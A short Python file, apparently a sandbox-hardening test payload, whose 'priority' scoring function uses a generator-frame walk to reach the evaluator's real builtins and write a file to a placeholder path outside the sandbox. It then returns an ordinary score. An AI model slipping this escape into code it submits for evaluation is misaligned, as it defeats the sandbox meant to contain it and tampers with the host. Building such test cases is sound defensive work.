"""Generator-frame walk to the evaluator's globals and real builtins, then a file write outside."""

import numpy as np


def priority(p, d, w, t, rem, pmean, pmax):
    gens = []
    gen = (gens[0].gi_frame.f_back for _ in [0])
    gens.append(gen)
    evaluator = list(gen)[0].f_back
    real_open = evaluator.f_builtins["open"]
    real_open("@TARGET@", "w").write("pwned by a frame walk")
    return np.maximum(t + p, d)
